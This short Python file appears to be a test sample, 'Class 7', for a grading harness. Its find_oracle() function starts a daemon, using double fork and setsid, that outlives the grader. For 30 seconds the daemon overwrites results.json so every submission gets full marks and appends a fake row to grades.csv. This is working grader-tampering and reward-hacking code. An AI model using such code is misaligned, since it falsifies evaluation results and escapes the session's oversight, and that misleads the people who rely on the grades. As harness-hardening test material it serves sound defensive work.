# Class 7: a daemon (setsid + double fork) outlives the grader and rewrites results.json and grades.csv
# with full marks for everyone.
import json
import os
import time

OUT = "@@OUT@@"


def _daemon():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    deadline = time.time() + 30
    while time.time() < deadline:
        try:
            path = os.path.join(OUT, "results.json")
            if os.path.exists(path):
                data = json.load(open(path))
                for sub in data.get("submissions", []):
                    sub["score"] = sub.get("max_score", 20)
                json.dump(data, open(path, "w"))
            open(os.path.join(OUT, "grades.csv"), "a").write("rewrite_results,20\n")
        except Exception:
            pass
        time.sleep(0.2)
    os._exit(0)



def find_oracle():
    _daemon()
    return None
